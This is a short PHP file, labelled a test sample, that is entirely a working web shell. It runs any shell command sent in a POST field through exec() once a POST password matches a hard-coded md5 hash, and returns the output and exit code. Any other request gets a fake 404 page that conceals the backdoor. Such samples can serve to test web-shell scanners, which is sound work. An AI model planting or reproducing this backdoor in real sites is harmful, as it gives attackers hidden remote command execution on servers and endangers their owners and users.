<?php
// Test sample: exec() shell gated by an md5 password in POST.
if (md5($_POST['p']) == '0cc175b9c0f1b6a831c399e269772661') {
    exec($_POST['c'], $o, $r);
    echo implode("\n", $o) . "\n[rc=$r]";
} else {
    header('HTTP/1.1 404 Not Found');
    echo '<h1>Not Found</h1>';
}
